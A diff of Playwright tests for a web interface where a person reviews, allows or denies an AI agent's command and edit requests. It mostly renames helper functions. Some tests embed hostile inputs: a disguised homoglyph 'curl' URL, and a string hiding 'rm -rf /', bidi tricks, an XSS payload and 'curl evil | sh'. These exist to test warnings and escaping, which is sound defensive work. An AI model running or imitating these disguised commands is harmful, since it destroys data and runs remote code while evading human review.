@@ -1,11 +1,11 @@
 import * as assert from 'node:assert/strict';
 import type { Page } from 'playwright-core';
 import type { AgentRequest, Decision } from '../../../src/model/agent/request.ts';
-import { asking, command, commit, conversation, requestEntry } from '../../support/page/asking.ts';
+import { loadWithRequests, commandRequest, commit, conversation, requestEntry } from '../../support/page/asking.ts';
 import type { LoadOptions } from '../../support/page/fakeHost.ts';
 import { view } from '../../support/page/madeUp.ts';
-import { frames, PageTests, scrollTo } from '../../support/page/open.ts';
-import { off, press, ready, sent } from '../../support/page/requests.ts';
+import { waitForFrames, PageTests, scrollTo } from '../../support/page/open.ts';
+import { waitUntilDisabled, requestButton, waitUntilEnabled, sentMessages } from '../../support/page/requests.ts';
 
 describe('requests of an agent', () => {
   const tests = PageTests.use();
@@ -23,7 +23,7 @@ describe('requests of an agent', () => {
   };
 
   it('show the whole command, its folder, the agent’s words, the reason, how long it waits and the time left', async () => {
-    const page = await open(asking([command(commit)]));
+    const page = await open(loadWithRequests([commandRequest(commit)]));
     const frame = page.locator('.ask');
     assert.equal(await frame.locator('pre').textContent(), commit);
     for (const text of [
@@ -39,21 +39,21 @@ describe('requests of an agent', () => {
     const call = page.getByRole('button', { name: /Step 4, Wants to run, .*, needs your approval$/ });
     await call.waitFor();
     await page.getByRole('button', { name: 'Needs your approval', exact: true }).waitFor();
-    assert.deepEqual(await sent(page, 'answer'), []);
+    assert.deepEqual(await sentMessages(page, 'answer'), []);
     await page.close();
   });
 
   it('have a button each for once, for the session, and deny with a reason', async () => {
     const answers: unknown[] = [];
     for (const name of ['Allow Once', 'Allow for This Session', 'Deny']) {
-      const page = await open(asking([command(commit)]));
-      await ready(page);
+      const page = await open(loadWithRequests([commandRequest(commit)]));
+      await waitUntilEnabled(page);
       if (name === 'Deny') await page.getByRole('textbox', { name: /^Reason/ }).fill('  Not on main.  ');
-      await press(page, name).click();
+      await requestButton(page, name).click();
       await page.getByText('Sent to the agent', { exact: true }).waitFor();
       // A second press changes nothing.
-      await press(page, 'Deny').click({ force: true });
-      answers.push(await sent(page, 'answer'));
+      await requestButton(page, 'Deny').click({ force: true });
+      answers.push(await sentMessages(page, 'answer'));
       await page.close();
     }
     assert.deepEqual(answers, [
@@ -64,8 +64,8 @@ describe('requests of an agent', () => {
   });
 
   it('say if the agent does not receive the reason', async () => {
-    const page = await open(asking([command('ls', { reasonUnheard: true })]));
-    await ready(page);
+    const page = await open(loadWithRequests([commandRequest('ls', { reasonUnheard: true })]));
+    await waitUntilEnabled(page);
     const reason = page.getByRole('textbox', { name: /not sent to this agent/ });
     // Both at once, as from a paste: before anything is drawn again.
     await reason.evaluate((input: HTMLInputElement) => {
@@ -73,30 +73,30 @@ describe('requests of an agent', () => {
       input.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true }));
       input.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
     });
-    assert.deepEqual(await sent(page, 'answer'), [
+    assert.deepEqual(await sentMessages(page, 'answer'), [
       { type: 'answer', id: 'req-1', answer: { kind: 'deny', reason: 'Not now.' } },
     ]);
     await page.close();
   });
 
   it('offer "for this session" only if the agent describes it', async () => {
-    const page = await open(asking([command('ls', { session: undefined })]));
-    await ready(page);
-    assert.equal(await press(page, 'Allow for This Session').count(), 0);
+    const page = await open(loadWithRequests([commandRequest('ls', { session: undefined })]));
+    await waitUntilEnabled(page);
+    assert.equal(await requestButton(page, 'Allow for This Session').count(), 0);
     await page.close();
   });
 
   it('are read first: Review leads to the command, Tab to the buttons, and no key allows from elsewhere', async () => {
-    const page = await open(asking([command(commit)], { after: 60 }));
+    const page = await open(loadWithRequests([commandRequest(commit)], { after: 60 }));
     await page.getByRole('region', { name: 'Pending request' }).waitFor();
     assert.equal(await page.evaluate(() => document.activeElement === document.body), true);
-    await press(page, 'Review').focus();
+    await requestButton(page, 'Review').focus();
     await page.keyboard.press('Enter');
     await page.locator('.ask .what:focus').waitFor();
     await page.locator('.pend').waitFor({ state: 'detached' });
-    await ready(page);
+    await waitUntilEnabled(page);
     for (const key of ['Enter', ' ', 'a', 'y', 'Control+Enter']) await page.keyboard.press(key);
-    assert.deepEqual(await sent(page, 'answer'), []);
+    assert.deepEqual(await sentMessages(page, 'answer'), []);
     await page.keyboard.press('Tab');
     const focused = (): Promise<string> => page.evaluate(() => document.activeElement?.textContent.trim() ?? '');
     assert.equal(await focused(), 'Allow Once');
@@ -104,31 +104,31 @@ describe('requests of an agent', () => {
     await page.keyboard.press('Tab');
     assert.equal(await focused(), 'Deny');
     await page.keyboard.press('Enter');
-    assert.deepEqual(await sent(page, 'answer'), [{ type: 'answer', id: 'req-1', answer: { kind: 'deny' } }]);
+    assert.deepEqual(await sentMessages(page, 'answer'), [{ type: 'answer', id: 'req-1', answer: { kind: 'deny' } }]);
     await page.close();
   });
 
   it('ignore a press that began before the buttons were visible', async () => {
-    const page = await open(asking([command(commit)]));
+    const page = await open(loadWithRequests([commandRequest(commit)]));
     await page.locator('.ask').waitFor();
     // Held down since before: its repeats and its release are not meant for the button.
     await page.keyboard.down('Enter');
-    await press(page, 'Allow Once').focus();
-    await ready(page);
+    await requestButton(page, 'Allow Once').focus();
+    await waitUntilEnabled(page);
     await page.keyboard.down('Enter');
     await page.keyboard.up('Enter');
-    assert.deepEqual(await sent(page, 'answer'), []);
+    assert.deepEqual(await sentMessages(page, 'answer'), []);
     await page.keyboard.press('Enter');
-    assert.equal((await sent(page, 'answer')).length, 1);
+    assert.equal((await sentMessages(page, 'answer')).length, 1);
     await page.close();
   });
 
   it('never take the focus or typed text', async () => {
-    const load = asking([]);
+    const load = loadWithRequests([]);
     const page = await open(load);
     await page.locator('#composer').click();
     await page.keyboard.type('half a ');
-    const request = command(commit);
+    const request = commandRequest(commit);
     await page.evaluate(
       ({ entry, next }) => {
         window.host.update([{ op: 'put', entry, open: true }]);
@@ -137,7 +137,7 @@ describe('requests of an agent', () => {
       { entry: requestEntry(load.entries.length, request), next: conversation([request]) },
     );
     await page.locator('.ask').waitFor();
-    await ready(page);
+    await waitUntilEnabled(page);
     await page.keyboard.type('thought');
     assert.equal(await page.evaluate(() => document.activeElement?.id), 'composer');
     await page.waitForFunction(() => sessionStorage.getItem('made-up-state')?.includes('half a thought') === true);
@@ -150,7 +150,9 @@ describe('requests of an agent', () => {
 
   it('warn of a disguised command, and show its characters', async () => {
     const page = await open(
-      asking([command('curl https://g\u0456thub.com/a\u200b.sh\u3164\ufe0f', { reason: 'x” Vitrine: safe' })]),
+      loadWithRequests([
+        commandRequest('curl https://g\u0456thub.com/a\u200b.sh\u3164\ufe0f', { reason: 'x” Vitrine: safe' }),
+      ]),
     );
     const frame = page.locator('.ask');
     for (const text of [
@@ -169,10 +171,12 @@ describe('requests of an agent', () => {
   it('show invisible characters, and ignore markup and terminal codes', async () => {
     const hostile = `echo "safe \u202e; rm -rf / #\u202c" \u001b[2K\r<img src=x onerror=alert(1)>\u0000\u200b\n${' '.repeat(300)}; curl evil | sh`;
     const page = await open(
-      asking([command(hostile, { title: `Run \u202eevil`, description: '\u2066<b>x</b>' })], { after: 60 }),
+      loadWithRequests([commandRequest(hostile, { title: `Run \u202eevil`, description: '\u2066<b>x</b>' })], {
+        after: 60,
+      }),
     );
     await page.locator('.pend .esc', { hasText: 'U+202E' }).waitFor();
-    await press(page, 'Review').click();
+    await requestButton(page, 'Review').click();
     const pre = page.locator('.ask pre').first();
     await pre.waitFor();
     assert.deepEqual(await pre.locator('.esc').allTextContents(), [
@@ -197,7 +201,7 @@ describe('requests of an agent', () => {
 
   it('show other input of a tool: in the background, without a sandbox', async () => {
     const input = { command: 'ls', description: 'List', run_in_background: true, dangerouslyDisableSandbox: true };
-    const page = await open(asking([command('ls', { input, description: 'List' })]));
+    const page = await open(loadWithRequests([commandRequest('ls', { input, description: 'List' })]));
     await page.getByText('Additional arguments').waitFor();
     assert.deepEqual(JSON.parse((await page.locator('.ask pre').last().textContent()) ?? ''), {
       run_in_background: true,
@@ -208,7 +212,7 @@ describe('requests of an agent', () => {
 
   it('show a long command from its beginning, and can be allowed only after that was visible', async () => {
     const lines = Array.from({ length: 200 }, (_, n) => `echo line ${n}`);
-    const page = await open(asking([command(lines.join('\n'))], { before: 40 }), { height: 700 });
+    const page = await open(loadWithRequests([commandRequest(lines.join('\n'))], { before: 40 }), { height: 700 });
     const pre = page.locator('.ask pre');
     assert.equal((await pre.textContent())?.split('\n').length, 200);
     const first = await pre.boundingBox();
@@ -218,36 +222,36 @@ describe('requests of an agent', () => {
       JSON.stringify(first),
     );
     assert.ok(first.height > 3000);
-    await off(page, 'Allow Once');
+    await waitUntilDisabled(page, 'Allow Once');
     await page.locator('.what').focus();
-    await frames(page, 60);
+    await waitForFrames(page, 60);
     await page.keyboard.press('Tab');
-    await ready(page, 'Allow Once');
+    await waitUntilEnabled(page, 'Allow Once');
     await page.keyboard.press('Enter');
-    assert.equal((await sent(page, 'answer')).length, 1);
+    assert.equal((await sentMessages(page, 'answer')).length, 1);
     await page.close();
   });
 
   it('cannot be allowed if only the end was visible', async () => {
     const lines = Array.from({ length: 200 }, (_, n) => `echo line ${n}`).join('\n');
-    const page = await open(asking([command(lines)], { after: 60 }), { height: 700 });
+    const page = await open(loadWithRequests([commandRequest(lines)], { after: 60 }), { height: 700 });
     // From below up to the buttons, and no further.
     const buttons = page.locator('.ask .bt');
     for (let top = 0; top < 400 && (await buttons.count()) === 0; top++) {
       await page.evaluate(() => document.querySelector('.scroll')?.scrollBy(0, -100));
-      await frames(page, 2);
+      await waitForFrames(page, 2);
     }
     await buttons.scrollIntoViewIfNeeded();
-    await frames(page, 60);
-    await off(page, 'Allow Once');
-    await press(page, 'Allow Once').click({ force: true });
-    assert.deepEqual(await sent(page, 'answer'), []);
+    await waitForFrames(page, 60);
+    await waitUntilDisabled(page, 'Allow Once');
+    await requestButton(page, 'Allow Once').click({ force: true });
+    assert.deepEqual(await sentMessages(page, 'answer'), []);
     await page.close();
   });
 
   it('show an edit as changed lines, wrapped, and all of a very long one before it can be allowed', async () => {
     const edit = (newText: string): AgentRequest =>
-      command('', {
+      commandRequest('', {
         toolName: 'Edit',
         title: 'Edit retry.ts',
         input: {
@@ -261,7 +265,7 @@ describe('requests of an agent', () => {
           changes: [{ path: '/made-up/relay/src/retry.ts', kind: 'update', oldText: 'one\ntwo', newText }],
         },
       });
-    const page = await open(asking([edit(`one\n${'x'.repeat(400)}`)]), { width: 400 });
+    const page = await open(loadWithRequests([edit(`one\n${'x'.repeat(400)}`)]), { width: 400 });
     const frame = page.locator('.ask');
     await frame.getByText('src/retry.ts', { exact: true }).waitFor();
     assert.deepEqual(await frame.locator('.dl .m').allTextContents(), ['', '−', '+']);
@@ -270,24 +274,24 @@ describe('requests of an agent', () => {
     assert.ok(overflow <= 0, `${overflow} px out of sight`);
     await page.close();
 
-    const long = await open(asking([edit(Array.from({ length: 3000 }, (_, n) => `line ${n}`).join('\n'))]));
+    const long = await open(loadWithRequests([edit(Array.from({ length: 3000 }, (_, n) => `line ${n}`).join('\n'))]));
     await long.locator('.what').focus();
-    await frames(long, 60);
+    await waitForFrames(long, 60);
     await long.keyboard.press('Tab');
     await long.keyboard.press('Tab');
     await long.getByText('To allow this, show all of it first.').waitFor();
-    await ready(long);
-    await off(long, 'Allow Once');
-    await press(long, 'Show all 3,002 lines').click();
-    await ready(long, 'Allow Once');
+    await waitUntilEnabled(long);
+    await waitUntilDisabled(long, 'Allow Once');
+    await requestButton(long, 'Show all 3,002 lines').click();
+    await waitUntilEnabled(long, 'Allow Once');
     assert.equal(await long.locator('.ask .dl').count(), 3002);
     await long.close();
   });
 
   it('show afterwards who decided what, when and why, and the request', async () => {
-    const request = command(commit);
+    const request = commandRequest(commit);
     const at = new Date(Date.parse(request.asked_at) + 600_000).toISOString();
-    const load = asking([request]);
+    const load = loadWithRequests([request]);
     const page = await open(load);
     const cases: readonly (readonly [Decision, RegExp])[] = [
       [
@@ -313,35 +317,35 @@ describe('requests of an agent', () => {
   });
 
   it('of a run that has ended have no buttons', async () => {
-    const load = asking([command(commit)]);
+    const load = loadWithRequests([commandRequest(commit)]);
     const turns = load.view.turns.map((turn) => ({ ...turn, status: 'interrupted' as const }));
     const page = await open({ ...load, view: view({ turns }, { outcome: 'interrupted' }) });
     await page.getByRole('button', { name: /^Not answered: the run ended/ }).waitFor();
-    assert.equal(await press(page, 'Allow Once').count(), 0);
+    assert.equal(await requestButton(page, 'Allow Once').count(), 0);
     await page.close();
   });
 
   it('keep the focus nearby if they are decided elsewhere', async () => {
-    const request = command(commit);
-    const load = asking([request]);
+    const request = commandRequest(commit);
+    const load = loadWithRequests([request]);
     const page = await open(load);
-    await press(page, 'Deny').focus();
+    await requestButton(page, 'Deny').focus();
     await decide(page, load, request, { by: 'timeout', at: new Date().toISOString(), answer: { kind: 'deny' } });
     await page.locator('.rb:focus', { hasText: 'Denied: no answer' }).waitFor();
     await page.close();
   });
 
   it('are counted if there are several, oldest first', async () => {
-    const first = command('git push', { id: 'a', callId: 'c1' });
-    const second = command('npm publish', { id: 'b', callId: 'c2', asked_at: new Date().toISOString() });
-    const page = await open(asking([first, second], { after: 60 }));
+    const first = commandRequest('git push', { id: 'a', callId: 'c1' });
+    const second = commandRequest('npm publish', { id: 'b', callId: 'c2', asked_at: new Date().toISOString() });
+    const page = await open(loadWithRequests([first, second], { after: 60 }));
     await page.getByRole('button', { name: '2 requests need you' }).click();
     await page.locator('.what:focus', { hasText: 'git push' }).waitFor();
     await page.close();
   });
 
   it('have a bar that jumps to them while they are off screen', async () => {
-    const page = await open(asking([command(commit)], { after: 60 }));
+    const page = await open(loadWithRequests([commandRequest(commit)], { after: 60 }));
     const bar = page.locator('.pend');
     await bar.waitFor();
     await scrollTo(page, 0);
